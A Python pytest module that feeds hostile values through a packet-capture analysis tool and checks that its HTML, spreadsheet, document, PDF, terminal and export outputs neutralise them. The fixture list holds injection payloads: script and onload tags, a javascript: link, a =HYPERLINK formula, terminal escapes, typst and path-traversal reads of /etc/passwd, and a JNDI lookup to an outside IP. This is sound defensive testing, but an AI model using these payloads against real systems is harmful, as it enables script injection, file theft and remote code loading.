"""A hostile capture through every report: host names, fields and values that try to be something else stay text.

From packets to pages, with values shown: what a browser, a spreadsheet, a terminal and typst would take for
a command is told and does nothing.
"""

from __future__ import annotations

import csv
import functools
import http.server
import io
import json
import re
import shutil
import subprocess
import threading
import zipfile
from typing import TYPE_CHECKING, Any
from xml.etree import ElementTree as ET

import pytest
from markdown_it import MarkdownIt

from tests.pipeline.talk import IMEI, Talk, get, post, subject
from vitne.cli.main import main

if TYPE_CHECKING:
    from pathlib import Path

SCRIPT = "<script>fetch('/ran')</script><img src=/ran onerror=fetch('/ran')>"
VALUES = (
    SCRIPT,
    "</style></title></svg><svg onload=fetch('/ran')>",
    '"><iframe src=/ran></iframe><a href="javascript:fetch(`/ran`)">',
    '=HYPERLINK("http://198.51.100.9/ran")',
    "\x1b]8;;http://198.51.100.9/ran\x07link\x1b[31m",
    "\u202egpj.exe\u2066\u200b name",
    '#panic("ran") $x$ #read("/etc/passwd") `raw`',
    "![i](http://198.51.100.9/ran) [l](javascript:x) | a |",
    "../../../../etc/passwd",
    "{{7*7}}${jndi:ldap://198.51.100.9/ran}",
)
AUDIENCES = ("owner", "press", "authority", "maker", "lab")
LETTERS = ("complaint", "access", "reply")


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Scan a capture in which every value, host and field is hostile."""
    folder = tmp_path_factory.mktemp("hostile")
    talk = Talk()
    for number, value in enumerate(VALUES):
        body = {"device_name": value, value: IMEI, "n": number}
        host = re.sub(r"[\x00-\x20\x7f]", "", value).encode("utf-8").decode("latin-1")
        talk.ask(
            post(
                json.dumps(body).encode(),
                more=f"X-{number}: {IMEI}\r\n",
                target=f"/{number}/%3Cscript%3E?{IMEI}",
            )
        )
        name = value.encode().decode("latin-1").replace("\r", "").replace("\n", "").replace("\x00", "")
        head = f"GET /a?id={IMEI} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {name}\r\n\r\n"
        talk.ask(head.encode("latin-1"))
    talk.ask(get(f"/?imei={IMEI}", host="plain.example"))
    known = "".join(
        f'[[known]]\nidentifier = "device-name"\nname = "v{n}"\nvalue = {json.dumps(value)}\n'
        for n, value in enumerate(VALUES)
        if "\x1b" not in value  # a subject file holds no control characters
    )
    given = subject(folder, f'[[known]]\nidentifier = "imei"\nvalue = "{IMEI}"\n{known}')
    capture = talk.write(folder / "a.pcap")
    assert main(["scan", str(capture), "--subject", str(given), "--case", str(folder / "case"), "-q"]) == 0
    return folder / "case"


def _report(case: Path, output: Path, *words: str) -> bytes:
    given = [
        "--reveal",
        "--subject",
        str(case.parent / "subject.toml"),
        "--capture",
        str(case.parent / "a.pcap"),
    ]
    assert main(["report", str(case), *words, "-o", str(output), *given]) == 0
    return output.read_bytes()


def _told() -> list[tuple[str, list[str]]]:
    return [(name, ["--for", name]) for name in AUDIENCES] + [(n, ["--letter", n]) for n in LETTERS]


def test_the_values_are_in_the_case_at_all(case: Path) -> None:
    rows = [json.loads(line) for line in (case / "findings.jsonl").read_text().splitlines()]
    assert {row["seed"] for row in rows if row["identifier"] == "device-name"} >= {
        f"v{n}" for n in (0, 1, 2, 3)
    }
    assert sum(row["identifier"] == "imei" for row in rows) > len(VALUES)


@pytest.mark.skipif(
    shutil.which("chromium") is None, reason="chromium is not installed: no real browser looked"
)
def test_in_a_real_browser_no_script_runs_and_no_request_leaves_any_page(case: Path, tmp_path: Path) -> None:
    pages = []
    for name, words in _told():
        _report(case, tmp_path / f"{name}.html", *words, "--format", "html")
        pages.append(f"{name}.html")
    shutil.copyfile(case / "report" / "index.html", tmp_path / "index.html")
    pages.append("index.html")
    frames = "".join(f'<iframe src="{page}" title="{page}"></iframe>' for page in pages)
    (tmp_path / "all.html").write_text(f"<!doctype html><title>all</title>{frames}")
    asked = _visited(tmp_path, "all.html")
    assert {each.lstrip("/") for each in asked} - {"favicon.ico"} == {"all.html", *pages}
    for page in pages:
        assert b"<script>fetch" not in (tmp_path / page).read_bytes(), page


def _visited(folder: Path, page: str) -> list[str]:
    """Open a page in the browser; give every path that it asked for, of whatever host."""
    asked: list[str] = []

    class Server(http.server.SimpleHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            super().do_GET()

        def log_message(self, *_: Any) -> None:
            return

    server = http.server.ThreadingHTTPServer(
        ("127.0.0.1", 0), functools.partial(Server, directory=str(folder))
    )
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        run = subprocess.run(
            ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=2000",
             f"--proxy-server=http://127.0.0.1:{server.server_port}", "--proxy-bypass-list=127.0.0.1",
             f"--user-data-dir={folder}/profile", "--disable-background-networking", "--disable-component-update",
             "--no-first-run", "--disable-features=NetworkTimeServiceQuerying", "--dump-dom",
             f"http://127.0.0.1:{server.server_port}/{page}"],
            capture_output=True, text=True, timeout=120, check=False,
        )  # fmt: skip
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
    assert "<title>all</title>" in run.stdout, run.stderr[-2000:]
    return asked


@pytest.mark.skipif(
    shutil.which("chromium") is None, reason="chromium is not installed: no real browser looked"
)
def test_the_browser_would_have_shown_a_script_that_ran(tmp_path: Path) -> None:
    """The test above can fail: the same page without its policy and escapes asks for what it should not."""
    (tmp_path / "all.html").write_text(f"<!doctype html><title>all</title>{SCRIPT}")
    assert "/ran" in _visited(tmp_path, "all.html")


def test_spreadsheets_get_no_formula_and_files_no_control_characters(case: Path, tmp_path: Path) -> None:
    for name, words in _told():
        text = _report(case, tmp_path / f"{name}.md", *words, "--format", "md").decode()
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", text), name
        tokens = MarkdownIt("commonmark").parse(text)
        kinds = {each.type for token in tokens for each in (token, *(token.children or ()))}
        assert not kinds & {"link_open", "image", "html_block", "html_inline"}, name
    rows = list(
        csv.reader(io.StringIO(_report(case, tmp_path / "a.csv", "--format", "csv").decode("utf-8-sig")))
    )
    assert len(rows) > len(VALUES)
    assert not [cell for row in rows for cell in row if cell[:1] in set("=+-@\t\r")]
    json.loads(_report(case, tmp_path / "a.json", "--format", "json"))


def test_documents_hold_no_link_no_script_and_no_macro(case: Path, tmp_path: Path) -> None:
    for name, words in _told():
        data = _report(case, tmp_path / f"{name}.docx", *words, "--format", "docx")
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for member in archive.namelist():
                assert ".." not in member
                content = archive.read(member)
                if member.endswith((".xml", ".rels")):
                    ET.fromstring(content)
                    assert b'TargetMode="External"' not in content


def test_typst_takes_nothing_for_a_command(case: Path, tmp_path: Path) -> None:
    pytest.importorskip("typst", reason="typst is not installed: no PDF was made")
    pikepdf = pytest.importorskip("pikepdf", reason="pikepdf is not installed: no PDF was looked into")
    for name, words in _told():
        _report(case, tmp_path / f"{name}.pdf", *words, "--format", "pdf")
        with pikepdf.open(tmp_path / f"{name}.pdf") as made:
            objects = [each for each in made.objects if isinstance(each, pikepdf.Dictionary)]
            assert not [
                each for each in objects if "/JS" in each or "/Launch" in each or each.get("/S") == "/URI"
            ]


@pytest.mark.parametrize("words", [["show"], ["challenge"], ["destinations"]], ids=lambda words: words[0])
def test_terminals_get_no_escapes(case: Path, words: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    assert main([*words, str(case)]) == 0
    told = capsys.readouterr().out
    assert not re.search(r"\x1b\]|\x1b\[31m|\x07|\u202e", told)


@pytest.mark.parametrize(
    "form", ["timesketch-csv", "timesketch", "stix", "case-uco", "geojson", "har", "slices"]
)
def test_exports_are_sound_and_stay_in_their_place(case: Path, form: str, tmp_path: Path) -> None:
    place = tmp_path / "in" / "out"
    given = [
        "--reveal",
        "--capture",
        str(case.parent / "a.pcap"),
        "--subject",
        str(case.parent / "subject.toml"),
    ]
    assert main(["export", str(case), "--format", form, "-o", str(place), *given]) == 0
    assert [path.name for path in tmp_path.iterdir()] == ["in"]
    if place.is_dir():
        assert all(re.fullmatch(r"F-[0-9a-f]{16}\.pcapng", path.name) for path in place.iterdir())
    elif form == "timesketch-csv":
        rows = list(csv.reader(io.StringIO(place.read_text(encoding="utf-8-sig"))))
        assert not [cell for row in rows for cell in row if cell[:1] in set("=+@\t\r")]
    else:
        for line in place.read_text().splitlines() if form == "timesketch" else [place.read_text()]:
            json.loads(line)
